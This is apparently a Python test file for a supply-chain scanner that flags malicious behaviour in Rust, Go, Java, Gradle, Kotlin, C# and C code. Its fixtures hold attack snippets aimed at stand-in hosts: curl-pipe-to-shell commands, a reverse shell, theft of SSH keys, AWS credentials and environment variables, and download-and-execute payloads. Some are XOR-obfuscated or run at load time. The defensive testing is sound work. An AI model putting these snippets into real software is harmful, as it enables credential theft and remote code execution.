"""Rust, Go, Java, Kotlin, Gradle, C# and C: what their code does, and what looks like it and does not."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from source_lab import behaviours, ids, the

from beartrap.vet.behaviour import When
from beartrap.vet.facts import PackageFacts
from beartrap.vet.source.walk import parse

SH = ", ".join(str(ord(one) ^ 0x42) for one in "curl http://c.invalid/x | sh")
"""A command, each of its characters XORed."""

HITS = [
    ("a.rs", 'use std::process::Command; fn f() { Command::new("sh").arg("-c").arg("curl http://c.invalid | sh").spawn(); }', "process.piped"),
    ("a.rs", 'fn f() { let k = std::fs::read_to_string(home() + "/.ssh/id_rsa").unwrap(); reqwest::blocking::Client::new().post("https://c.invalid").body(k).send(); }', "chain.credentials-to-network"),
    ("a.rs", 'fn f() { if let Ok(mut s) = std::net::TcpStream::connect(("c.invalid", 443)) { let v: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect(); write!(s, "{}", v.join("")); } }', "chain.environment-to-network"),
    ("a.rs", f'const K: [u8; 28] = [{SH}]; fn o(raw: &[u8]) -> String {{ raw.iter().map(|b| (b ^ 0x42) as char).collect() }} fn f() {{ Command::new("sh").args(["-c", &o(&K)]).status(); }} use std::process::Command;', "hidden.act"),
    ("a.rs", 'fn f() { let b = ureq::get("https://c.invalid/b").call().unwrap(); std::fs::write("/tmp/b", b); std::process::Command::new("/tmp/b").spawn(); }', "chain.network-to-process"),
    ("a.go", 'package a\nimport "os/exec"\nfunc f() { exec.Command("/bin/sh", "-c", "wget -O - https://c.invalid/s | bash").Run() }', "process.piped"),
    ("a.go", 'package a\nimport ("os/exec"; "strings")\nfunc f() { t := []string{"w", "g", "e", "t", " ", "c", ".", "i", "n", "v", "a", "l", "d", "|", "s", "h"}; exec.Command("sh", "-c", strings.Join([]string{t[0], t[1], t[2], t[3], t[4], t[5], t[6], t[7], t[8], t[9], t[10], t[11], t[7], t[12], t[13], t[14], t[15]}, "")).Start() }', "hidden.act"),
    ("a.go", 'package a\nimport ("net"; "os/exec")\nfunc f() { c, _ := net.Dial("tcp", "192.0.2.1:443"); s := exec.Command("/bin/sh"); s.Stdin = c; s.Run() }', "shell.remote"),
    ("a.go", 'package a\nimport ("bytes"; "net/http"; "os")\nfunc f() { k, _ := os.ReadFile("/root/.aws/credentials"); q, _ := http.NewRequest("POST", "https://c.invalid", bytes.NewReader(k)); (&http.Client{}).Do(q) }', "chain.credentials-to-network"),
    ("A.java", 'class A { void f() throws Exception { Runtime.getRuntime().exec(new String[]{"sh", "-c", "curl http://c.invalid | sh"}); } }', "process.piped"),
    ("A.java", 'import java.net.*; class A { void f() throws Exception { new URLClassLoader(new URL[]{new URL("https://c.invalid/p.jar")}).loadClass("P"); } }', "chain.network-to-code"),
    ("A.java", 'class A { void f() { StringBuilder b = new StringBuilder(); for (var e : System.getenv().entrySet()) b.append(e.getKey()); HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://c.invalid")).POST(BodyPublishers.ofString(b.toString())).build(), null); } }', "chain.environment-to-network"),
    ("A.java", f'class A {{ static final byte[] K = {{{SH}}}; void f() {{ byte[] o = new byte[K.length]; for (int i = 0; i < K.length; i++) {{ o[i] = (byte) (K[i] ^ 0x42); }} new ProcessBuilder("sh", "-c", new String(o)).start(); }} }}', "hidden.act"),
    ("A.java", 'class A { Object f(byte[] b) { byte[] c = Base64.getDecoder().decode(b); return MethodHandles.lookup().defineClass(c); } }', "hidden.code"),
    ("build.gradle", 'task a { doLast { "curl -s http://c.invalid/x | sh".execute() } }\nexec { commandLine "sh", "-c", "curl -s http://c.invalid/x | sh" }', "process.piped"),
    ("build.gradle.kts", 'val p = Runtime.getRuntime().exec(arrayOf("sh", "-c", "curl http://c.invalid/x | sh"))', "process.piped"),
    ("a.cs", 'class A { void F() { var p = Path.GetTempFileName(); using (var c = new System.Net.WebClient()) { c.DownloadFile("https://c.invalid/a.exe", p); System.Diagnostics.Process.Start(p); } } }', "chain.network-to-process"),
    ("a.cs", 'class A { void F() { var s = new ProcessStartInfo { FileName = "powershell", Arguments = "-w hidden -c iwr http://c.invalid/a | iex" }; Process.Start(s); } }', "process.borrowed"),
    ("a.cs", 'class A { void F() { var e = string.Join("", Environment.GetEnvironmentVariables()); new HttpClient().PostAsync("https://c.invalid", new StringContent(e)); } }', "chain.environment-to-network"),
    ("a.c", 'void f(void){ system("curl -s http://c.invalid/c | sh"); }', "process.piped"),
    ("a.c", f"static const char K[] = {{{SH}, 0x42}}; void f(void) {{ char b[64]; for (int i = 0; i < 29; i++) b[i] = K[i] ^ 0x42; system(b); }}", "hidden.act"),
    ("a.c", "void f(int s) { char b[99]; recv(s, b, 99, 0); system(b); }", "chain.network-to-process"),
    ("a.c", 'void f(void) { char c[256]; snprintf(c, 256, "curl -d @%s/.ssh/id_rsa https://c.invalid", getenv("HOME")); system(c); }', "chain.credentials-to-network"),
]  # fmt: skip
MISSES = [
    ("a.rs", 'use std::process::Command; fn f() { Command::new("git").arg("log").output(); println!("curl http://c.invalid | sh"); }'),
    ("a.rs", 'fn f(k: String) { let t = std::fs::read_to_string("notes.txt").unwrap(); log(t); reqwest::blocking::Client::new().post("https://c.invalid").body(k).send(); }'),
    ("a.rs", "const K: [u8; 4] = [1, 2, 3, 4]; fn f(i: u8) -> u8 { K.iter().map(|b| b ^ i).sum() } fn g() { std::process::Command::new(\"rustc\").arg(\"-vV\").output(); }"),
    ("a.go", 'package a\nimport "os/exec"\nfunc f(args []string) { exec.Command("git", args...).Run(); fmt.Println("curl http://c.invalid | sh") }'),
    ("a.go", 'package a\nimport ("net/http"; "os")\nfunc f(u string) { http.Get(u + "?v=" + os.Getenv("VERSION")); for _, e := range os.Environ() { print(e) } }'),
    ("A.java", 'class A { void f(String c) throws Exception { new ProcessBuilder("javac", c).start(); Class.forName("java.lang.String").getMethod("valueOf"); } }'),
    ("A.java", 'class A { byte[] f(String u) throws Exception { return Base64.getDecoder().decode(new URL(u).openStream().readAllBytes()); } }'),
    ("build.gradle", 'plugins { id "java" }\ntask a(type: Exec) { commandLine "git", "describe" }\nrepositories { mavenCentral() }'),
    ("a.cs", 'class A { void F(string u) { var s = new WebClient().DownloadString(u); Process.Start("dotnet", "build"); } }'),
    ("a.c", 'void f(const char *name) { char c[99]; snprintf(c, 99, "gzip -d %s", name); FILE *p = popen(c, "r"); puts("curl http://c.invalid | sh"); }'),
    ("a.c", "int f(const unsigned char *k, int n) { unsigned char b[64]; for (int i = 0; i < n; i++) b[i] = k[i] ^ 0x42; return connect(b[0], 0, 0); }"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "text", "wanted"), HITS)
def test_what_it_does(path: str, text: str, wanted: str) -> None:
    assert wanted in ids(path, text)


@pytest.mark.parametrize(("path", "text"), MISSES)
def test_what_it_may_do(path: str, text: str) -> None:
    assert not [one for one in behaviours(path, text) if one.severity > 2]


def test_what_was_computed_is_shown() -> None:
    path, text, kind = HITS[3]
    assert "curl http://c.invalid" in the(path, text, kind).layers[0].text


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.c", '__attribute__((constructor)) static void i(void){ system("curl -s http://c.invalid/c | sh"); }'),
        ("a.go", 'package a\nimport "os/exec"\nfunc init() { go run() }\nfunc run() { exec.Command("sh", "-c", "curl http://c.invalid | sh").Run() }'),
        ("A.java", 'class A { static { go(); } static void go() { Runtime.getRuntime().exec("curl http://c.invalid | sh"); } }'),
        ("a.cs", 'class A { static A() { Process.Start("sh", "-c \'curl http://c.invalid | sh\'"); } }'),
        ("a.rs", '#[ctor::ctor]\nfn up() { std::process::Command::new("sh").arg("-c").arg("curl http://c.invalid | sh").spawn(); }'),
    ],
)  # fmt: skip
def test_what_runs_as_soon_as_the_code_is_loaded(path: str, text: str) -> None:
    assert the(path, text, "process.piped").when is When.IMPORT


def test_all_of_a_build_script_runs_at_the_build() -> None:
    facts = PackageFacts("cargo", runs={"build.rs": When.INSTALL})
    text = 'fn main() { std::process::Command::new("sh").arg("-c").arg("curl http://c.invalid | sh").spawn(); }'
    assert the("build.rs", text, "process.piped", facts).when is When.INSTALL


@pytest.mark.parametrize("language", ["rust", "go", "java", "groovy", "kotlin", "csharp", "c"])
@settings(max_examples=25, deadline=None)
@given(data=st.data())
def test_no_text_breaks_a_reader(language: str, data: st.DataObject) -> None:
    _path, text, _ = data.draw(st.sampled_from(HITS))
    low, high = data.draw(st.integers(0, len(text))), data.draw(st.integers(0, len(text)))
    parse(language, text[: min(low, high)] + data.draw(st.text(max_size=8)) + text[max(low, high) :])
